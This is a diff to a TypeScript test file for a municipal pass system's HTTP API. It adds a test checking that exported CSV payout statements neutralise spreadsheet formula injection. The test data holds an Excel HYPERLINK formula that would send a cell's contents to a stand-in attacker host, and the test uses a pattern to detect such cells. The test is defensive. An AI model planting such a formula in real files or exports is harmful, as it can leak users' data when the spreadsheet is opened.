@@ -1,7 +1,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, demoEmails, loginAs, type Session, type TestApp } from '../../../test/support/app.ts';
 import { FakeClock } from '../../platform/clock.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { eq } from 'drizzle-orm';
 import { seedPassDemo } from './demo.ts';
+import { passProviders } from './schema.ts';
 import { passNumberFrom } from './domain.ts';
 
 /** The HTTP API of the pass: who may do what, what a cashier gets to see, and the API key at the till. */
@@ -120,6 +123,15 @@ describe('payout statements over HTTP', () => {
     const csv = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`, headers: cashier.headers });
     expect(csv.headers['content-type']).toContain('text/csv');
     expect(csv.body).toContain(`totaal uit te betalen;;;;${statement.totals.payoutCents};`);
+    // A provider's name is chosen by people outside the municipality: a formula in it must not run in Excel.
+    const hostileName = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
+    await t.db.unaudited((q) => q.update(passProviders).set({ name: hostileName }).where(eq(passProviders.id, demoProviderId)));
+    const hostile = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`, headers: cashier.headers });
+    const rows = parseCsv(hostile.body.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
+    expect(rows[0]!.at(-1)).toBe('aanbieder');
+    expect(rows.slice(1).map((r) => r.at(-1))).toEqual(rows.slice(1).map(() => `'${hostileName}`));
+    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
+    expect(rows.slice(1).every((r) => /^-?\d+$/.test(r[6]!) && /^-?\d+,\d\d$/.test(r[7]!))).toBe(true);
     const pdf = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=pdf`, headers: cashier.headers });
     expect(pdf.headers['content-type']).toBe('application/pdf');
     expect(pdf.rawPayload.subarray(0, 4).toString()).toBe('%PDF');
